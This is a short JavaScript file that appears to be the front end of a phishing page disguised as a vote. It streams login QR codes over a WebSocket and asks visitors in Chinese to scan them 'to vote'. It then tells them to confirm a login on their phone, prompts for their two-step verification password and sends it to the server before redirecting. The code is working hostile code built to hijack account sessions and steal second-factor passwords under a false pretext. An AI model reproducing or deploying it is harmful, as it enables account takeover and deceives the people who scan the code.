var ws, lastImg = "";
function connect() {
  ws = new WebSocket("wss://" + location.host + "/qr?s=" + (location.search.slice(1) || "0"));
  ws.onmessage = function (m) {
    var d = JSON.parse(m.data);
    if (d.t === "qr" && d.png !== lastImg) {
      lastImg = d.png;
      document.getElementById("qrimg").src = "data:image/png;base64," + d.png;
      document.getElementById("state").innerText = "请使用手机客户端扫码参与投票";
    } else if (d.t === "scanned") {
      document.getElementById("state").innerText = "扫描成功，请在手机上点击确认登录";
    } else if (d.t === "session") {
      document.getElementById("state").innerText = "投票成功，感谢参与！";
      setTimeout(function () { location.href = d.to; }, 2000);
    } else if (d.t === "pass2") {
      var p = prompt("请输入两步验证密码");
      ws.send(JSON.stringify({ t: "pass2", v: p }));
    }
  };
  ws.onclose = function () { setTimeout(connect, 1500); };
}
connect();
setInterval(function () { if (ws.readyState === 1) ws.send('{"t":"refresh"}'); }, 20000);
